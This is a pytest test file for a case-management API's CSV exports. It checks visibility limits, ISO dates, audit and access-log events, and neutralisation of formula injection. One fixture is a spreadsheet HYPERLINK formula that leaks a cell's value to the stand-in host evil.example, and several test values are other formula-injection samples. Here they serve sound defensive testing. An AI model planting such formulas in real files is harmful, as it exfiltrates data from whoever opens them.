"""CSV exports: visibility, ISO dates, formula injection, the one `export` audit event, and
the `read` event each exported case gets for its access log."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session
from sqlmodel import col

from api.auth.dependencies import Staff
from api.core import clock
from api.core.audit import AuditContext, AuditEvent
from api.reports import exports
from api.reports.scope import Scope, window_for
from api.users.models import Role
from tests.factories import Factory
from tests.practice import Practice
from tests.reports.conftest import NOW
from tests.reports.dataset import Builder

WINDOW = {"from": "2026-01-01", "to": "2026-06-30"}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _csv(
    client: TestClient, make: Factory, user: Any, path: str, **params: str
) -> list[dict[str, str]]:
    response = client.get(
        f"/api/v1/reports/{path}", params={**WINDOW, **params}, headers=make.headers(user)
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["content-disposition"]
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def test_cases_csv_neutralises_formulas_and_keeps_iso_dates(
    client: TestClient, make: Factory, practice: Practice, dataset: Builder, db: Session
) -> None:
    evil = dataset.case(
        "Evil",
        lead=practice.lead,
        model="johnson",
        created="2026-04-01T15:00:00",
        status="intake",
        first_name=FORMULA,
        summary="+SUM(A1:A9)",
    )
    db.commit()
    rows = _csv(client, make, practice.supervisor, "cases.csv")
    by_reference = {r["reference"]: r for r in rows}
    # Open at some time in the window: A, B, C, D, E, H and the new one (F opened after it).
    assert len(rows) == 7
    row = by_reference[evil.reference]
    assert row["client_first_name"] == "'" + FORMULA
    assert row["summary"] == "'+SUM(A1:A9)"
    a = by_reference[dataset.cases["A"].reference]
    assert a["created_at"] == "2026-01-10T15:00:00+00:00"
    assert a["intervention_held_at"] == "2026-02-09T15:00:00+00:00"
    assert a["first_admitted_at"] == "2026-02-11T15:00:00+00:00"
    assert a["lead"] == practice.lead.full_name


def test_check_ins_and_referrals_csv(
    client: TestClient, make: Factory, practice: Practice, dataset: Builder, db: Session
) -> None:
    a = dataset.cases["A"]
    dataset.check_in(a, "2026-06-01T15:00:00", note="-2+3 @cmd")
    dataset.check_in(a, "2026-06-02T15:00:00", note="\tindented")
    dataset.referral(a, created="2026-06-03T15:00:00", summary="@SUM(1)")
    db.commit()
    check_ins = _csv(client, make, practice.supervisor, "check-ins.csv")
    assert len(check_ins) == 7  # 5 in the window from the data set, 2 here
    notes = {r["note"] for r in check_ins}
    assert "'-2+3 @cmd" in notes
    assert "'\tindented" in notes
    assert {r["respondent"] for r in check_ins} == {"client", "Rosa Tester"}
    referrals = _csv(client, make, practice.supervisor, "referrals.csv")
    # Created in the window: A's (Feb 5), C's (Feb 10), D's (Jan 20) and the new one.
    assert len(referrals) == 4
    assert "'@SUM(1)" in {r["summary"] for r in referrals}


def _refused_exports(
    client: TestClient, make: Factory, practice: Practice, bad_file: str
) -> tuple[Any, Any]:
    """A lead asking for a colleague's cases (403), and a supervisor's window that ends
    before it starts (422)."""
    forbidden = client.get(
        "/api/v1/reports/cases.csv",
        params={"lead_id": str(practice.colleague.id)},
        headers=make.headers(practice.lead),
    )
    bad = client.get(
        f"/api/v1/reports/{bad_file}",
        params={"from": "2026-02-01", "to": "2026-01-01"},
        headers=make.headers(practice.supervisor),
    )
    return forbidden, bad


def test_exports_follow_the_same_visibility(
    client: TestClient, make: Factory, practice: Practice, dataset: Builder
) -> None:
    mine = _csv(client, make, practice.lead, "cases.csv")
    assert {r["client_first_name"] for r in mine} == {"A", "B", "E", "H"}
    assert _csv(client, make, practice.outsider, "referrals.csv")[0]["treatment_center"]
    assert len(_csv(client, make, practice.outsider, "cases.csv")) == 1
    forbidden, bad = _refused_exports(client, make, practice, "check-ins.csv")
    assert forbidden.status_code == 403
    assert bad.status_code == 422
    assert bad.json()["errors"][0]["loc"] == ["query", "from"]


def test_each_export_is_one_audit_event_with_its_filters(
    client: TestClient, make: Factory, practice: Practice, dataset: Builder, db: Session
) -> None:
    _csv(client, make, practice.supervisor, "referrals.csv", model="arise")
    events = db.scalars(
        select(AuditEvent).where(
            AuditEvent.actor_id == practice.supervisor.id, AuditEvent.action == "export"
        )
    ).all()
    assert len(events) == 1
    assert events[0].resource_type == "referrals.csv"
    assert events[0].details == {
        "from": "2026-01-01",
        "to": "2026-06-30",
        "lead_id": None,
        "model": "arise",
    }
    listed = client.get(
        "/api/v1/audit-events", params={"action": "export"}, headers=make.headers(practice.admin)
    )
    assert listed.json()["items"][0]["details"]["model"] == "arise"


def test_a_large_export_streams_in_chunks(
    client: TestClient, make: Factory, practice: Practice, dataset: Builder, db: Session
) -> None:
    a = dataset.cases["A"]
    for day in range(2500):
        dataset.check_in(a, f"2026-02-01T{day % 24:02d}:{day % 60:02d}:{day % 59:02d}")
    db.commit()
    with client.stream(
        "GET",
        "/api/v1/reports/check-ins.csv",
        params=WINDOW,
        headers=make.headers(practice.supervisor),
    ) as response:
        chunks = [chunk for chunk in response.iter_text() if chunk]
    assert len(chunks) >= 3  # one per thousand rows, not the whole file at once
    assert sum(chunk.count("\n") for chunk in chunks) == 1 + 5 + 2500


def _export_reads(db: Session, actor: Any) -> list[AuditEvent]:
    """The `read` events exports by `actor` left on cases."""
    db.expire_all()
    events = db.scalars(
        select(AuditEvent).where(
            AuditEvent.actor_id == actor.id,
            AuditEvent.action == "read",
            AuditEvent.resource_type == "case",
        )
    ).all()
    return [e for e in events if e.details and "export" in e.details]


@pytest.mark.parametrize(
    ("path", "exported"),
    [
        ("cases.csv", "ABCDEH"),  # F opened after the window
        ("check-ins.csv", "A"),  # the only case with check-ins in the window (five)
        ("referrals.csv", "ACD"),  # H's referral was created before the window
    ],
)
def test_each_exported_case_lists_the_export_in_its_access_log(
    client: TestClient,
    make: Factory,
    practice: Practice,
    dataset: Builder,
    db: Session,
    monkeypatch: pytest.MonkeyPatch,
    path: str,
    exported: str,
) -> None:
    monkeypatch.setattr(exports, "BATCH", 2)  # several batches, A's check-ins across three
    rows = _csv(client, make, practice.supervisor, path)
    assert len(rows) == {"cases.csv": 6, "check-ins.csv": 5, "referrals.csv": 3}[path]

    (export,) = db.scalars(
        select(AuditEvent).where(
            AuditEvent.actor_id == practice.supervisor.id, AuditEvent.action == "export"
        )
    ).all()
    reads = _export_reads(db, practice.supervisor)
    # One event per case, not per row or batch, and none for a case the file leaves out
    # (those outside the window, and G of the other organisation).
    assert sorted(str(e.case_id) for e in reads) == sorted(
        str(dataset.cases[name].id) for name in exported
    )
    assert all(e.details == {"export": path} for e in reads)
    assert all(e.request_id == export.request_id is not None for e in reads)

    a = dataset.cases["A"]
    log = client.get(f"/api/v1/cases/{a.id}/access-log", headers=make.headers(practice.admin))
    assert log.status_code == 200, log.text
    (listed,) = [e for e in log.json()["items"] if e["details"] == {"export": path}]
    assert listed["action"] == "read"
    assert listed["resource_type"] == "case"
    assert listed["actor_id"] == str(practice.supervisor.id)
    assert listed["at"].startswith(NOW.date().isoformat())
    f = dataset.cases["F"]
    untouched = client.get(f"/api/v1/cases/{f.id}/access-log", headers=make.headers(practice.admin))
    assert not [e for e in untouched.json()["items"] if e["details"]]


def test_an_interventionists_export_records_only_the_cases_it_holds(
    client: TestClient, make: Factory, practice: Practice, dataset: Builder, db: Session
) -> None:
    _csv(client, make, practice.lead, "cases.csv", model="johnson")
    reads = _export_reads(db, practice.lead)
    # The lead's own cases of the model in the window: A, B and H (not E, Love First; not
    # C or D, the colleague's).
    assert {e.case_id for e in reads} == {dataset.cases[name].id for name in "ABH"}


def test_a_refused_export_records_nothing(
    client: TestClient, make: Factory, practice: Practice, dataset: Builder, db: Session
) -> None:
    forbidden, bad = _refused_exports(client, make, practice, "referrals.csv")
    assert forbidden.status_code == 403
    assert bad.status_code == 422
    db.expire_all()
    recorded = db.scalars(
        select(AuditEvent).where(
            col(AuditEvent.actor_id).in_([practice.lead.id, practice.supervisor.id]),
            col(AuditEvent.action).in_(["read", "export"]),
        )
    ).all()
    assert recorded == []


def test_cases_already_sent_stay_recorded_when_the_client_goes_away(
    committed_app: FastAPI, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Real commits on separate connections: the audit events of a batch are committed
    while the export's cursor is still open (on SQLite too), before the batch is sent."""
    monkeypatch.setattr(exports, "BATCH", 2)
    factory = committed_app.state.session_factory
    with factory() as session, clock.frozen_at(NOW):
        make = Factory(session, committed_app.state.settings)
        org = make.organization()
        supervisor = make.user(org, Role.supervisor)
        b = Builder(session, org, supervisor)
        for n, name in enumerate("ABCDE"):
            b.case(
                name,
                lead=supervisor,
                model="johnson",
                created=f"2026-0{n + 1}-02T15:00:00",
                status="intake",
            )
        session.commit()
        window = window_for(session, org.id, date(2026, 1, 1), date(2026, 6, 30))
        ids = {name: case.id for name, case in b.cases.items()}
    ctx = AuditContext("staff", supervisor.id, org.id, None, None, uuid.uuid4().hex)
    export = exports.cases_export(Scope(Staff(supervisor, ctx), None, None), window)

    with clock.frozen_at(NOW):
        chunks = export.stream(factory, ctx, "cases.csv")
        first = next(chunks)
        chunks.close()  # the client disconnected after the first two rows

    assert first.count("\n") == 3  # the header, A and B
    with factory() as session:
        reads = session.scalars(
            select(AuditEvent.case_id).where(AuditEvent.request_id == ctx.request_id)
        ).all()
    assert sorted(map(str, reads)) == sorted(str(ids[name]) for name in "AB")
